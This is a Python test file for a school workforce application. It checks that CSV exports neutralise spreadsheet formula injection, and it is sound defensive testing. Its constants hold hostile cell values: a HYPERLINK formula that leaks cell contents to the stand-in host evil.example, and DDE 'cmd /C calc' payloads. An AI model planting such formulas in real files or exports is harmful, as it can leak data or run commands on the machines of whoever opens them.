"""Every CSV export is safe to open in a spreadsheet: text that would run as a formula starts with ``'``.

Hostile values go in the way real ones do (a staff CSV and a GIAS extract through `workforce import`, a CPD
record through the My CPD form); then each export that can show them is downloaded over HTTP as its users
download it, and every cell is checked. Each export must really contain a hostile value (neutralised), so a
test cannot pass because the value never reached the file.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from browser.live_server import csrf_token, http_client

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_FIRST_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
HOSTILE_LAST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SCHOOL = "-2+3 Academy"
HOSTILE_TRUST = '=cmd|" /C calc"!A0 Trust'
HOSTILE_CPD_TITLE = "=1+1 Autism awareness"
HOSTILE_PROVIDER = "+44 Training Ltd"
HOSTILE_REFERENCE = "@A1"
HOSTILE_REFLECTION = "\t=2*3 tab first"

HILLCREST = "149002"
TRUST = "17001"


def unsafe_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers such as -1.5 are numbers, not formulas)."""
    bad = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def test_the_cell_checker_can_fail():
    assert unsafe_cells(b'name,n\r\n"=HYPERLINK(""x"")",-1.5\r\n+1+1,@x\r\n') == [
        '=HYPERLINK("x")',
        "+1+1",
        "@x",
    ]
    assert unsafe_cells(b"name\r\n'=HYPERLINK(1)\r\n-2\r\n") == []


@pytest.fixture(scope="module")
def hostile_data(served):
    """A member of staff and a school in a new trust with formula-like names, loaded through the importers."""
    folder = served.data_dir / "hostile"
    folder.mkdir(exist_ok=True)
    from workforce.paths import SEED_DIR

    header = (SEED_DIR / "demo" / "staff.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
    staff = dict.fromkeys(header, "")
    staff.update(
        staff_id="EVIL0001",
        title="+Dr",
        first_name=HOSTILE_FIRST_NAME,
        last_name=HOSTILE_LAST_NAME,
        email="evil.person@riverside.example",
        qts="no",
        school_urn=HILLCREST,
        role="ta",
        fte="1",
        start_date="2024-09-01",
        senior_leader="no",
    )
    with (folder / "staff.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, header)
        writer.writeheader()
        writer.writerow(staff)
    served.cli("import", "staff", str(folder / "staff.csv"))

    rows = list(csv.reader((SEED_DIR / "demo" / "gias.csv").open(encoding="utf-8", newline="")))
    head, school = rows[0], list(rows[1])
    school[head.index("URN")] = "149099"
    school[head.index("EstablishmentName")] = HOSTILE_SCHOOL
    school[head.index("Trusts (code)")] = "17099"
    school[head.index("Trusts (name)")] = HOSTILE_TRUST
    with (folder / "gias.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(head)
        writer.writerow(school)
    served.cli("import", "gias", str(folder / "gias.csv"))
    return served


def _download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, f"{url} -> {response.status_code}: {response.text[:300]}"
    assert response.headers["content-type"].startswith("text/csv"), response.headers["content-type"]
    assert "attachment" in response.headers.get("content-disposition", ""), url
    return response.content


def _assert_safe(content: bytes, url: str, *expected: str) -> None:
    assert not unsafe_cells(content), f"{url} has cells a spreadsheet would run: {unsafe_cells(content)[:5]}"
    text = content.decode("utf-8-sig")
    for value in expected:
        assert "'" + value in text or "'" + value.replace('"', '""') in text, (
            f"{url} does not contain the hostile value {value!r} (neutralised): the check would prove nothing"
        )


@pytest.mark.parametrize(
    "url",
    [
        f"/schools/{HILLCREST}/exports/matrix",
        f"/schools/{HILLCREST}/exports/findings",
        f"/trusts/{TRUST}/exports/matrix",
        f"/trusts/{TRUST}/exports/findings",
    ],
)
def test_compliance_exports_neutralise_formulas_in_names(hostile_data, url):
    with http_client(hostile_data, "hr.lead@demo.example") as client:
        content = _download(client, url)
    if "matrix" in url:
        _assert_safe(content, url, HOSTILE_FIRST_NAME)
    else:
        assert not unsafe_cells(content), f"{url}: {unsafe_cells(content)[:5]}"


def test_my_cpd_export_neutralises_formulas_typed_into_the_form(hostile_data):
    with http_client(hostile_data, "teacher@demo.example") as client:
        token = csrf_token(client.get("/my-cpd/new").text)
        response = client.post(
            "/my-cpd/new",
            data={
                "_csrf_token": token,
                "activity_date-day": "2",
                "activity_date-month": "10",
                "activity_date-year": "2025",
                "title": HOSTILE_CPD_TITLE,
                "provider": HOSTILE_PROVIDER,
                "hours": "1.5",
                "send_area": "general",
                "evidence_ref": HOSTILE_REFERENCE,
                "reflection": HOSTILE_REFLECTION,
            },
            follow_redirects=False,
        )
        assert response.status_code == 303, response.text[:1000]
        url = "/my-cpd/download/csv"
        content = _download(client, url)
    _assert_safe(content, url, HOSTILE_CPD_TITLE, HOSTILE_PROVIDER, HOSTILE_REFERENCE)


def test_dfe_downloads_neutralise_formulas_in_organisation_names(hostile_data):
    with http_client(hostile_data, "analyst@demo.example") as client:
        page = client.get("/dfe")
        assert page.status_code == 200
        links = sorted(set(re.findall(r'href="(/dfe/download\?[^"]*format=csv[^"]*)"', page.text)))
        assert links, "the DfE dashboard offers no CSV download"
        # National figures are cached for a few minutes per date: ask for a date no other test asks for, so the
        # figures include the school imported above.
        as_of = (dt.date.today() - dt.timedelta(days=3)).isoformat()
        by_trust = f"/dfe/download?table=workforce&breakdown=trust&format=csv&as_of={as_of}"
        for url in [*links, by_trust]:
            content = _download(client, url.replace("&amp;", "&"))
            assert not unsafe_cells(content), f"{url}: {unsafe_cells(content)[:5]}"
        _assert_safe(_download(client, by_trust), by_trust, HOSTILE_TRUST)
